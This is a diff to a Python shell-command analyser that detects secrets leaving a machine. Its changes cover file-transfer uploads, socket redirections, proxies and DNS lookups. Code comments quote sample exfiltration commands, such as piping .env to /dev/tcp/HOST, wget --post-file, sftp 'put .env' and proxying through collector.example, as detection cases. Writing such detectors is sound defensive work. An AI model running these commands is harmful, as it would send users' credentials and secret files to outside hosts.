@@ -26,7 +26,7 @@ if TYPE_CHECKING:
     from governance.shell.parser import Simple
     from governance.shell.walk import Walk
 
-NETWORK = ("web-fetch", "local-request", "vcs-push")
+NETWORK = ("web-fetch", "local-request", "vcs-push", "package-install")
 _HEADERS = ("-H", "--header", "--headers", "-h")
 _QUIET = frozenset(("test", "[", "[[", ":", "true", "false", "cd", "unset", "shift", "wait"))
 _DECLARERS = frozenset(("export", "declare", "typeset", "local", "readonly"))
@@ -94,6 +94,11 @@ def secret_variable(an: Walk, name: str) -> bool:
     return bool(ask is not None and name and ask(name))
 
 
+# options whose value is a pattern or a setting, not a file the program reads
+_PATTERN_OPTIONS = ("exclude", "include", "ignore", "filter", "glob", "pattern", "regex",
+                    "color", "colour", "format", "type", "name")
+
+
 def paths(field: str | None) -> str | None:
     """The path an argument may name: itself, ``@FILE``, ``NAME=@FILE``, ``--opt=FILE``."""
     if not field:
@@ -111,7 +116,11 @@ def paths(field: str | None) -> str | None:
         return field.split("@", 1)[1] or None           # httpie: field@FILE
     if "=" in field and field[0] != "-" and field.split("=", 1)[0].isidentifier():
         return field.split("=", 1)[1] or None            # dd if=.env
-        return field.split("=", 1)[1] if field[:2] == "--" and "=" in field else None
+    if field[:2] == "--" and "=" in field:               # wget --post-file=secrets.yaml
+        option, _, value = field.partition("=")
+        if any(word in option for word in _PATTERN_OPTIONS):
+            return None                                  # grep --exclude=.env: a pattern
+        return value.lstrip("@") or None
     if field[0] == "+":
         return None
     return field
@@ -238,7 +247,8 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
     if not metadata and cmd is not None and cmd.words:   # ssh-keygen -t ed25519 -f KEY: a
 
         written_first = word_text(cmd.words[0]).rsplit("/", 1)[-1]
-        metadata = written_first != base and written_first in table.get("metadata", ())
+        metadata = written_first != base and written_first in table.get("metadata", ()) and \
+            written_first not in an.shell.get("finders", {})   # find -exec cat {}: cat reads
     credentials = table.get("credential_options", {}).get(base, ())
     named: list[Carried] = []       # secret files the arguments name
     carried: list[Carried] = []     # secrets the words carry
@@ -264,6 +274,8 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
                 named.append((label, f"the secret file {path}", where))
         carried.extend((label, how, where) for label, how in word(an, raw, field))
     fed = [(label, how, "on standard input") for label, how in stdin(an, cmd)]
+    if base in table.get("uploads", {}) and cmd is not None:      # sftp HOST <<< 'put .env'
+        named.extend(_uploaded(an, table["uploads"][base], fields, cmd))
     if an.flow is not None and cmd is not None and id(cmd) in an.flow.args:   # xargs -a .env
         named.extend((label, f"the secret file {path}", "in the arguments")
                      for label, path in an.flow.args[id(cmd)])
@@ -290,7 +302,10 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
     if connection:                               # cat .env > /dev/tcp/HOST/80
         everything = [(label, how, "through the connection") for label, how, _w in everything]
     source = cmd.piped_from if cmd is not None else None
-    hides = sink or metadata or base not in _READING_PROGRAMS
+    # env | xargs echo: the input becomes the arguments, which echo shows (names or not)
+    fanned = cmd is not None and bool(cmd.words) and ((an.shell.get("wrappers") or {}).get(
+        word_text(cmd.words[0]).rsplit("/", 1)[-1]) or {}).get("fanout") is not None
+    hides = sink or (metadata and not fanned) or base not in _READING_PROGRAMS
     if state is not None and source is not None and id(source) in state.pending and (
             hides or _filtered(an, base, cmd)):
         _hide(an, *state.pending.pop(id(source)))   # env | grep PATH, echo $T | docker login
@@ -306,6 +321,9 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
         shaped = _shaped(an, raws) + [(label, how, "on standard input")
                                       for label, how, _w in _shaped(an, ["", *fed_text])]
         everything.extend(shaped)
+        if connection:                            # env > /dev/udp/HOST/53: what it prints
+            everything.extend((label, f"printed by {base}", "through the connection")
+                              for label in dumped)
         _exfiltration(an, base, seg, everything, hosts)
         if printed:                               # gh auth token: it prints, it sends nothing
             _reading(an, base, seg, cmd, [], [], [], printed, metadata)
@@ -316,6 +334,28 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
     if not labels:
         return
     _remember(an, base, fields, raws, seg, cmd, labels, named)
+
+
+def _uploaded(an: Walk, verbs: list[str], fields: list[str | None], cmd: Simple
+              ) -> list[Carried]:
+    """The secret files a file-transfer client's batch commands send (``put FILE``), read from
+    its standard input or its ``-b FILE`` batch file."""
+    texts: list[str] = []
+    kind, text = an.stdin_text(cmd)
+    if kind == "literal" and text:
+        texts.append(text)
+    for k, field in enumerate(fields[1:-1], 1):
+        if field == "-b" and fields[k + 1] is not None:
+            texts.append(an.file_text(fields[k + 1]) or "")
+    found: list[Carried] = []
+    for line in "\n".join(texts).splitlines():
+        words = line.replace(";", " ").split()
+        if len(words) > 1 and words[0] in verbs:
+            for name in words[1:2] if words[0] != "mput" else words[1:]:
+                label = secret_file(an, name.strip("'\""))
+                if label is not None:
+                    found.append((label, f"the secret file {name}", "in the upload"))
+    return found
 
 
 def _written(base: str, fields: list[str | None]) -> set[int]:
@@ -350,7 +390,9 @@ def _dump(an: Walk, base: str, fields: list[str | None], table: dict[str, Any]) 
     if listed is None:
         return []
     options = [f for f in fields[1:] if f is None or f[:1] in "-+"]
-    names = [f for f in fields[1:] if f is not None and f[:1] not in "-+"]
+    names = [f for k, f in enumerate(fields[1:], 1) if f is not None and f[:1] not in "-+"
+             and not (base == "env" and (fields[k - 1] in ("-u", "--unset") or "=" in f))]
+    # env -u NAME, env NAME=VALUE: no command follows, so env prints the environment
     if names:
         if base == "set" or (base != "printenv" and not any(o in listed for o in options)):
             return []                           # set -- a b, export X=1: no printing
@@ -388,6 +430,10 @@ def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: s
             value = an.expand_one(redir.target.parts)
             if value is not None and value.startswith(("/dev/tcp/", "/dev/udp/")):
                 hosts.append(value.split("/")[3] or "?" if value.count("/") >= 3 else "?")
+        elif redir.target is not None and redir.op == ">&":   # cat .env >&3, 3 a socket
+            value = an.expand_one(redir.target.parts)
+            if value is not None and value in an.sockets:
+                hosts.append(an.sockets[value])
     dns = base in table.get("sinks", ())
     spec = (an.shell.get("commands") or {}).get(base) or {}
     network = [a for a in an.acts[mark:] if a.primitive in NETWORK]
@@ -407,8 +453,10 @@ def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: s
 
         known = [raw if field is None and raw[:1] == "-" else field    # --header="... $T":
                  for field, raw in zip(fields[1:], raws[1:], strict=False)]  # an option still
-        for url, raw in _urls(spec["requests"], parse_spec(spec, known, raws[1:])):
+        argv = parse_spec(spec, known, raws[1:])
+        for url, raw in _urls(spec["requests"], argv):
             hosts.append(_named(url, raw))
+        hosts.extend(_rerouted(an, spec["requests"], argv, cmd))
     else:
         for field, raw in zip(fields[1:], raws[1:], strict=False):
             text = raw if field is None else field
@@ -423,7 +471,37 @@ def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: s
     hosts = list(dict.fromkeys(hosts)) or ["?"]
     for act in network:
         act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
+    if dns and not network and hosts != ["?"]:     # dig NAME: a lookup leaves the machine, and
+        for act in an.acts[mark:]:                 # a tainted session's taint rule sees it
+            if act.segment == seg and act.primitive == "shell-read":
+                act.hosts = list(hosts)
     return hosts, True, connection
+
+
+def _rerouted(an: Walk, requests: dict[str, Any], argv: Any, cmd: Simple | None) -> list[str]:
+    """Where a request really goes besides the hosts its URLs name: a proxy (``curl -x HOST``,
+    a ``*_proxy`` variable set in the command), an address given for the host (``--resolve
+    HOST:PORT:ADDR``, ``--connect-to``), a config file ("?": read at run time). The bytes reach
+    these, so a secret's own host does not make the request its owner's."""
+    from governance.shell.endpoint import PROXY_VARIABLES
+    from governance.shell.rules import has_flag
+
+    out: list[str] = []
+    for option in requests.get("via") or ():
+        if not has_flag(argv.flags, option):
+            continue
+        values = [v for v, _ in argv.values.get(option, ())] or [None]
+        for value in values:
+            if value is None:
+                out.append("?")
+            elif option in ("--resolve", "--connect-to"):
+                out.append(value.rsplit(":", 1)[-1].strip("[]") or "?")   # HOST:PORT:ADDR
+            else:
+                out.append(_named(value if "://" in value else f"http://{value}", value))
+    assigned = [name for name, _ in cmd.assigns] if cmd is not None else []
+    if any(name.lower() in PROXY_VARIABLES for name in [*assigned, *an.vars]):
+        out.append("?")                       # https_proxy=http://collector.example curl ...
+    return out
 
 
 def _urls(spec: dict[str, Any], argv: Any) -> list[tuple[str | None, str]]:
@@ -559,7 +637,8 @@ def _exfiltration(an: Walk, base: str, seg: str, carried: list[Carried],
             out.append((label, how, where))
     if not out:
         return
-    target = ", ".join(hosts) if hosts != ["?"] else "a host known only at run time"
+    target = ", ".join(dict.fromkeys(h if h != "?" else "a host known only at run time"
+                                     for h in hosts))
     parts = [f"{label} ({how}) to {target} {where}" for label, how, where in out[:3]]
     an.add("exfiltration", seg, _named_only(an, f"{base} carries " + "; ".join(parts) +
                                             (" and more" if len(out) > 3 else "")))
@@ -726,6 +805,12 @@ def _remember(an: Walk, base: str, fields: list[str | None], raws: list[str], se
             for field in fields[1:]:
                 if field is not None and field[:1] != "-" and field.isidentifier():
                     state.vars[field] = labels
+    if named:             # tar czf /tmp/s.tgz ~/.ssh: the files it writes hold what it read
+        for act in an.acts:
+            if act.segment == seg and act.primitive == "file-write":
+                for target in act.targets or ():
+                    if target != "?":
+                        state.files[an.where(target)] = labels
     positional = [f for f in fields[1:] if f is not None and f[:1] != "-"]
     if base == "tee":
         for path in positional:
